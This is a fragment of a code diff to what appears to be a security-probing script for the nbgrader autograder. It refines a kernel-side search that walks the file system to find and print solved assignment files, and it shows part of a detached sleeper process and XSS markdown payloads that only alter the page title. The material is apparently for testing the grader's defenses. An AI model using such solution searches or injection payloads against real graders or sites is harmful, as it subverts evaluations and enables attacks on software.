@@ -143,7 +143,7 @@ subprocess.Popen([sys.executable, "-c", SLEEPER], start_new_session=True, stdout
 
 # Cause 3 in nbgrader's kernel: look for the solutions anywhere on the visible file system.
 KERNEL_SEARCH = '''
-import os
+import os, re
 found = []
 for root, dirs, files in os.walk("/"):
     if root.startswith(("/proc", "/sys", "/dev", "/usr")) or any(part in root for part in ("site-packages", "/lib/python", "/share")):
@@ -154,9 +154,9 @@ for root, dirs, files in os.walk("/"):
             text = open(os.path.join(root, name), errors="ignore").read(2_000_000)
         except OSError:
             continue
-        if "BEGIN " + "SOLUTION" in text and "_ensure_capacity" in text:
-            found.append(text)
-print("FOUND", len(found), "\\n".join(found)[:20000])
+        if re.search(r"### BEGIN " + r"SOLUTION(\\\\n|\\n)", text) and "_ensure_capacity" in text:  # a solved edition
+            found.append(os.path.join(root, name) + ": " + text[:20000])
+print("FOUND", len(found), "\\n".join(found))
 '''
 
 XSS_MARKDOWN = ('<script>document.title="pwned-md"</script>\n<img src=x onerror="document.title=\'pwned-img\'">\n'
